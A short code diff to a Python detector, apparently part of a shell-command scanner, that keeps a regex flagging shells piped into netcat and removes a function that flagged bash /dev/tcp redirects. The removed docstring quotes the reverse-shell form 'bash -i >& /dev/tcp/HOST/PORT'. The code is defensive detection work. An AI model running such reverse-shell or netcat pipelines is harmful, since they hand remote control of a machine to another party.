@@ -49,10 +49,3 @@ _PIPED_SHELL = lazy_pattern(r"\|\s*(?:/\S*/)?(?:ba|z|k|da)?sh\b[^|]*\|\s*(?:nc|n
 def network_shell(pipeline: str) -> list[Hit]:
     """A pipe that connects a shell with netcat."""
     return [_NETWORK] if _PIPED_SHELL.search(pipeline) else []
-
-
-def network_redirect(path: str, command: str) -> list[Hit]:
-    """bash's own sockets: `bash -i >& /dev/tcp/HOST/PORT`; to probe a port is harmless."""
-    if not path.startswith(("/dev/tcp/", "/dev/udp/")):
-        return []
-    return [_NETWORK] if re.match(r"(?:/\S*/)?(?:ba|z|k|da)?sh\b", command) else []
